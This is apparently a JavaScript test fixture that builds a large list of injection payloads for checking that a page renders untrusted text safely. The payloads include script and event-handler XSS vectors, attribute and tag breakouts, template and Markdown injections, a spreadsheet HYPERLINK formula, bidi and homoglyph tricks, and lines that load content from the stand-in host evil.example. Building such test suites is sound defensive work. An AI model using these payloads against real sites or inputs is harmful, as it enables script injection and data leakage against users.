// Texts that would be code in a page that takes them for anything but text: HTML, scripts, addresses, Markdown, templates, direction
// marks and look-alikes. Each sets `pwned` if it runs, or asks for `https://evil.example/`.

const run = "globalThis.pwned=1";

const elements = [
  `<script>${run}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=https://evil.example/x.png>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src=https://evil.example/></iframe>`,
  `<object data=https://evil.example/></object>`,
  `<embed src=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<style>body{background:url(https://evil.example/x.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button autofocus onfocus="${run}">x</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}">`,
  `<textarea autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<body onload="${run}">`,
  `<div style="width:expression(${run})">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<x onclick="${run}" tabindex=1 onfocus="${run}" autofocus>`,
  `<marquee onstart="${run}">`,
];

const breakouts = ["", `"`, `'`, `">`, `'>`, "`", "-->", "</textarea>", "</title>", "</code></pre>", "]]>", "\\u003c"];

const others = [
  `javascript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[x](javascript:${run})`,
  `![x](https://evil.example/x.png)`,
  `[x]: https://evil.example/`,
  `<https://evil.example/>`,
  "```\n</code><script>" + run + "</script>",
  `=HYPERLINK("https://evil.example/","x")`,
  `\u202e<script>${run}</script>\u202c`,
  `\u2066evil\u2069`,
  `ad\u200bmin\ufeff`,
  `ad\u{e0061}min`,
  `аws:iam::111122223333:user/ana`,
  `ａｒｎ：ａｗｓ：ｉａｍ`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<script\u2028>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `"};${run};//`,
  `');${run};//`,
  `\u001b]8;;https://evil.example/\u0007x\u001b]8;;\u0007`,
];

export const payloads = [...breakouts.flatMap((breakout) => elements.map((element) => breakout + element)), ...others];

/** A text as the page shows it: what isn't seen and turns text around or joins it is spelled out, all else is there letter by letter. */
export const spelled = (text) =>
  text.replaceAll(
    /[\0-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/gu,
    (mark) => `U+${mark.codePointAt(0).toString(16).toUpperCase().padStart(4, "0")}`,
  );
